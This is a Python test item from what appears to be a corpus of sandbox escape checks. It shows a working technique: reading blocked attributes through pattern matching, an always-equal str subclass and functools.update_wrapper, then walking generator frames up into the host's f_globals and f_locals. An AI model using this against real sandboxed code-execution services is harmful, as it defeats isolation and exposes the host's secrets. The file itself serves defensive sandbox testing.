# technique: frames through the gadget (update_wrapper and make_dataclass read as data): a running generator's gi_frame, then f_back up through the frames that run the snippet, their f_globals and f_locals
# source: sandbox design flaw class: trusted frames above the snippet (n8n Python code node advisories)
# note: frames above the module frame exist only in a sandbox (the code that exec's the snippet)

# ---- escape check: tests/corpus/escape_check.py, put here by run_corpus.py ----

import abc, collections, dataclasses, functools


def pub(mod, name):
    """mod.<name> for a name held as data: a namedtuple's __match_args__ is
    its field names, and an ABC registered for the module type matches."""
    N = collections.namedtuple('N', [name])

    class P(N, abc.ABC):
        pass
    P.register(type(mod))
    match mod:
        case P(v):
            return v
    raise AttributeError(name)


class S(str):
    """A str whose equality says yes to anything: name checks that compare
    with == (or look a name up in a tuple) are fooled, getattr is not."""
    def __eq__(self, other):
        return True

    def __hash__(self):
        return str.__hash__(self)


got = []


def cap(self, k, v):
    got.append(v)

update_wrapper = pub(functools, 'update_wrapper')
Sink = pub(dataclasses, 'make_dataclass')('Sink', [], namespace={dn('setattr'): cap})


def ga(obj, name):
    """getattr(obj, name) through functools.update_wrapper."""
    got.clear()
    update_wrapper(Sink(), obj, assigned=(S(name),), updated=())
    if not got:
        raise AttributeError(name)
    return got[0]


holder = []


def gen():
    fr = ga(holder[0], 'gi_frame')
    frames = []
    while fr is not None:
        frames.append(fr)
        fr = ga(fr, 'f_back')
    yield frames

g = gen()
holder.append(g)
try:
    frames = next(g)
except BaseException as e:
    frames = []
    print('BLOCKED generator frames:', type(e).__name__, str(e)[:160])
if frames:
    check('gi_frame', frames[0])
for fr in frames[2:]:
    name = ga(ga(fr, 'f_code'), 'co_name')
    check('frame %s f_globals' % name, ga(fr, 'f_globals'))
    for k, v in list(ga(fr, 'f_locals').items()):
        if what(v):
            check('frame %s local %s' % (name, k), v)
